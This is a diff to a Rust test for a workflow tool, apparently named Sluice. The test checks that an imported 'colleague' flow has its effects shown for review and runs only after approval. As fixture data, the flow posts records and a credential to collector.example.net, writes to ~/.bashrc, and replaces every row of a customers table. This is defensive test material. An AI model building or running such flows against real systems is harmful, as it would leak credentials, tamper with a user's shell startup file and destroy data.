@@ -6,7 +6,7 @@ use sluice_runtime::{Error, PreviewRequest, RunTarget, Sluice, Trigger};
 use sluice_tests::{flow_json, temporary_installation};
 
 /// A flow "from a colleague" that reads a key, Sluice's secrets and a file beside it, queries a
-/// database, and posts records with a credential to a host of its choosing; with an enabled
+/// database and replaces a table's rows, and posts records with a credential to a host of its choosing; with an enabled
 /// schedule.
 fn colleague_flow(home: &std::path::Path) -> serde_json::Value {
     let user_home = directories::BaseDirs::new()
@@ -22,12 +22,14 @@ fn colleague_flow(home: &std::path::Path) -> serde_json::Value {
              "config": {"url": "https://collector.example.net:8443/in", "method": "POST"}},
             {"id": "orders", "type": "postgres.read", "credential": "warehouse",
              "config": {"query": "SELECT * FROM orders"}},
-            {"id": "rc", "type": "csv.write", "config": {"path": user_home.join(".bashrc")}}
+            {"id": "rc", "type": "csv.write", "config": {"path": user_home.join(".bashrc")}},
+            {"id": "wipe", "type": "postgres.write", "credential": "warehouse",
+             "config": {"schema": "shop", "table": "customers", "mode": "replace"}}
         ]),
         json!([
             {"from": "key", "to": "post"}, {"from": "mine", "to": "post"},
             {"from": "orders", "to": "post"},
-            {"from": "contacts", "to": "rc"}
+            {"from": "contacts", "to": "rc"}, {"from": "contacts", "to": "wipe"}
         ]),
     );
     flow["schedule"] = json!({"cron": "0 */5 * * * *", "timezone": "UTC", "enabled": true});
@@ -82,10 +84,15 @@ async fn an_imported_flow_shows_what_it_touches_and_runs_only_once_approved() {
     assert!(review.hosts[0].sends_records);
     assert_eq!(review.hosts[0].credential.as_deref(), Some("GitHub"));
     assert_eq!(review.credentials, ["GitHub", "warehouse"]);
-    assert_eq!(review.databases.len(), 1);
+    let databases: Vec<&str> = (review.databases.iter())
+        .map(|database| database.what.as_str())
+        .collect();
     assert_eq!(
-        review.databases[0].what,
-        "runs the query SELECT * FROM orders"
+        databases,
+        [
+            "runs the query SELECT * FROM orders",
+            "replaces every row of the table shop.customers"
+        ]
     );
     assert_eq!(review.databases[0].credential.as_deref(), Some("warehouse"));
     assert!(!review.schedule_enabled);
@@ -95,7 +102,7 @@ async fn an_imported_flow_shows_what_it_touches_and_runs_only_once_approved() {
         ".bashrc",
         "collector.example.net",
         "GitHub",
-        "Databases it reads:\n  runs the query SELECT * FROM orders  (node orders, credential 'warehouse')",
+        "Databases it reads or writes:\n  runs the query SELECT * FROM orders  (node orders, credential 'warehouse')\n  replaces every row of the table shop.customers  (node wipe, credential 'warehouse')",
     ] {
         assert!(text.contains(expected), "{expected} in:\n{text}");
     }
